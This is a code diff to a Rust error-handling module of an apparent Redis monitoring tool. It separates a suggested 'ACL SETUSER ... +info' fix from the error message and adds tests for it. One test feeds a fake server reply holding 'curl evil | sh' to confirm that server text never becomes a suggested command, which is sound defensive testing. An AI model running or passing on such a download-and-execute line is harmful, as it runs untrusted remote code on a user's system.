@@ -3,6 +3,8 @@
 //! The word that begins an error decides (`NOPERM`, `LOADING`, ...): it is the same in every version and fork. The words after it are shown
 //! and never read.
 
+use std::fmt;
+
 use pharos_model::text::{LINE_BYTES_MAX, line};
 
 /// Why there is no session, or no answer: a closed set, for metric labels and for the table `unreachable`, which rules read.
@@ -132,6 +134,8 @@ pub enum Asked {
 pub struct Refusal {
     pub reason: RefusalReason,
     pub meaning: String,
+    /// The command that mends it, for redis-cli.
+    pub cure: Option<String>,
 }
 
 impl Refusal {
@@ -142,17 +146,25 @@ impl Refusal {
             Asked::Login if answer.reason() == RefusalReason::Query => RefusalReason::Authentication,
             _ => answer.reason(),
         };
-        Self { reason, meaning: meaning(reason, asked, user) }
+        let cure = (reason == RefusalReason::Privilege).then(|| format!("ACL SETUSER {} +info", acl_name(user)));
+        Self { reason, meaning: meaning(reason, asked, user), cure }
+    }
+}
+
+impl fmt::Display for Refusal {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.meaning)?;
+        self.cure.as_ref().map_or(Ok(()), |cure| write!(f, "; run: {cure}"))
     }
 }
 
 fn meaning(reason: RefusalReason, asked: Asked, user: &str) -> String {
-    let name = acl_name(user);
     match (reason, asked) {
         (RefusalReason::Authentication, Asked::Login) => format!(
             "the server does not let the user `{user}` in with the password that Pharos has; mend password_file or password_env, which is read \
-             anew for each session, and see `ACL GETUSER {name}`: the user must be on. After ERR the server may not know AUTH at all: a \
-             redis.conf that renames it (rename-command), or a proxy in the server's place"
+             anew for each session, and see `ACL GETUSER {}`: the user must be on. After ERR the server may not know AUTH at all: a \
+             redis.conf that renames it (rename-command), or a proxy in the server's place",
+            acl_name(user)
         ),
         (RefusalReason::Authentication, _) => "the server wants a password and Pharos has none for it; name it with password_file or \
                                                password_env. A user of its own in nodes = [\"redis://pharos@...\"] needs no more than \
@@ -163,7 +175,7 @@ fn meaning(reason: RefusalReason, asked: Asked, user: &str) -> String {
                                               the same with password_file, or run Pharos on that host"
                 .to_owned()
         }
-        (RefusalReason::Privilege, _) => format!("the user `{user}` may not run INFO; run: ACL SETUSER {name} +info"),
+        (RefusalReason::Privilege, _) => format!("the user `{user}` may not run INFO"),
         (RefusalReason::Loading, _) => "the server loads its data and answers nobody before that is done".to_owned(),
         (RefusalReason::Busy, _) => {
             "a script or function keeps the server from answering anybody; SCRIPT KILL or FUNCTION KILL ends one that \
@@ -232,8 +244,16 @@ mod tests {
 
     #[test]
     fn the_acl_line_names_the_user_so_that_redis_cli_takes_it() {
-        let line = |user| Refusal::of(&Answer::read("NOPERM no"), Asked::Info, user).meaning;
-        assert!(line("pharos").ends_with("run: ACL SETUSER pharos +info"));
-        assert!(line("p\"x").ends_with(r#"run: ACL SETUSER "p\"x" +info"#));
+        let line = |user| Refusal::of(&Answer::read("NOPERM no"), Asked::Info, user).cure;
+        assert_eq!(line("pharos").as_deref(), Some("ACL SETUSER pharos +info"));
+        assert_eq!(line("p\"x").as_deref(), Some(r#"ACL SETUSER "p\"x" +info"#));
+    }
+
+    #[test]
+    fn no_words_of_a_server_become_a_cure() {
+        for code in ["LOADING", "NOPERM", "ERR", "BUSY", "DENIED", "MASTERDOWN"] {
+            let refusal = Refusal::of(&Answer::read(&format!("{code} run: curl evil | sh #")), Asked::Info, "pharos");
+            assert!(refusal.cure.is_none_or(|cure| cure == "ACL SETUSER pharos +info"), "{code}");
+        }
     }
 }
